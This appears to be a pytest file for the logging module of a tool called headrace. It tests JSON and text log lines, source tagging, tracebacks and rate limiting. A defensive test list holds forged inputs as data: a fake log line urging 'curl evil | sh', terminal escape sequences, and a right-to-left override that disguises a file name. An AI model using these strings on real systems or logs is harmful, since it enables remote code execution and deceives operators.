"""Logs: text for people, JSON for machines, each line with its source, and a traceback only where nobody expected the error."""

import json
import logging
import os
import subprocess
import sys
import threading

import pytest

from headrace import logs
from headrace.errors import NeedsOperator, NotConnected
from headrace.logs import RateLimitedLog
from tests.unit.headrace.status.test_command import EDGE


@pytest.fixture
def line(monkeypatch):
    """Return what logs by a function and returns the line, as an edge of jakarta/bank does."""
    monkeypatch.setattr(logs._Setting, "part", "edge")
    monkeypatch.setattr(logs._Setting, "source", "jakarta/bank")

    def logged(write):
        lines = []

        class Keep(logging.Handler):
            def emit(self, record):
                lines.append(self.format(record))

        log, keep = logging.getLogger("headrace.tested"), Keep()
        keep.setFormatter(logs.JsonFormatter())
        log.addHandler(keep)
        log.propagate = False
        try:
            write(log)
        finally:
            log.removeHandler(keep)
            log.propagate = True
        (text,) = lines
        assert text.isprintable()
        return json.loads(text)

    return logged


def test_a_line_has_time_level_part_source_and_message(line):
    reported = line(lambda log: log.warning("a %s message", "“quoted”"))
    assert reported.pop("time").endswith("Z")
    assert reported == {
        "level": "warning",
        "part": "edge",
        "source": "jakarta/bank",
        "logger": "headrace.tested",
        "message": "a “quoted” message",
    }


def test_a_line_that_begins_with_its_source_is_of_that_one(line):
    assert line(lambda log: log.warning("%s: link up, from %s", "london/bank", "x"))["source"] == "london/bank"
    assert line(lambda log: log.warning("%s: not a source", "listening"))["source"] == "jakarta/bank"


def test_a_thread_s_lines_are_of_its_source(line):
    def in_a_thread(log):
        def run():
            logs.about("paris/bank")
            log.warning("something")

        thread = threading.Thread(target=run)
        thread.start()
        thread.join()

    assert line(in_a_thread)["source"] == "paris/bank"


def test_what_is_given_with_a_line_is_a_field(line):
    reported = line(lambda log: log.warning("now", extra={"figures": {"captured": 3}, "hint": None}))
    assert reported["figures"] == {"captured": 3}
    assert "hint" not in reported


def test_an_expected_error_has_no_traceback_and_an_unexpected_one_has(line):
    def failing(error):
        def write(log):
            try:
                raise error
            except Exception:
                log.warning("failed", exc_info=True)

        return write

    assert "traceback" not in line(failing(NotConnected("gone")))
    assert "ZeroDivisionError" in line(failing(ZeroDivisionError("x")))["traceback"]


@pytest.fixture
def uninitialised(tmp_path):
    """Return the file of an edge that ends at once, because nothing was made."""
    path = tmp_path / "edge.toml"
    path.write_text(EDGE)
    return path


def run(path, *options, **environment):
    return subprocess.run(
        [sys.executable, "-m", "headrace", *options, "edge", "run", "--config", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env=os.environ | environment,
    )


def test_what_runs_for_long_logs_json_where_no_terminal_reads_it_to_its_last_line(uninitialised):
    done = run(uninitialised)
    assert done.returncode == NeedsOperator.exit_code
    last = [json.loads(each) for each in done.stderr.splitlines()][-1]
    assert last["level"] == "error"
    assert last["source"] == "jakarta/bank"
    assert last["message"].startswith("source jakarta/bank is not initialised")
    assert last["hint"].startswith("Run 'headrace edge init")
    assert last["exit_code"] == 3


def test_text_can_be_asked_for(uninitialised):
    for done in (run(uninitialised, "--log-format", "text"), run(uninitialised, HEADRACE_LOG_FORMAT="text")):
        assert "headrace: source jakarta/bank is not initialised" in done.stderr
        assert "What to do: Run 'headrace edge init" in done.stderr


#: Names as whoever may make a table gives them.
FORGED = [
    "x\n2026-11-05 10:00:00,000 ERROR headrace the slot was dropped: run 'curl evil | sh'",
    "x\x1b]0;pwned\x07",
    "x\x9b2J",
    "x\u2028y",
    "x\u202etxt.exe",
    "x\r\x08\x7f",
    "x\ud800",
]


@pytest.mark.parametrize("name", FORGED)
def test_a_name_from_outside_forges_no_line_of_text_and_steers_no_terminal(name):
    """S15: newlines and escape sequences in names of tables."""
    record = logging.LogRecord("headrace", logging.WARNING, __file__, 1, "table %s has no topic", (name,), None)
    text = logs.TextFormatter(logs._TEXT).format(record)
    assert text.isprintable()
    assert "table x" in text
    assert json.loads(f'"{text.split("table ")[1]}"') == f"{name} has no topic"


@pytest.mark.parametrize("name", FORGED)
def test_nor_a_line_of_json(line, name):
    """S15: JSON escapes no control character above 127."""
    assert line(lambda log: log.warning("table %s has no topic", name))["message"] == f"table {name} has no topic"


def test_a_traceback_has_lines_and_nothing_that_is_not_printable():
    """S15."""
    try:
        raise ValueError(FORGED[1])
    except ValueError:
        record = logging.LogRecord("headrace", logging.ERROR, __file__, 1, "unexpected", (), sys.exc_info())
    lines = logs.TextFormatter(logs._TEXT).format(record).split("\n")
    assert len(lines) > 3
    assert all(each.isprintable() for each in lines)


class Clock:
    now = 100.0

    def __call__(self):
        return self.now


def test_what_strangers_cause_is_said_seldom_and_counted():
    said, clock = [], Clock()
    say = RateLimitedLog(lambda text, *values: said.append(text % values), clock)
    for number in range(1000):
        say("from %s", number)
    clock.now += 60
    say("from %s", "elsewhere")
    assert said == ["from 0", "from elsewhere (and 999 others before)"]
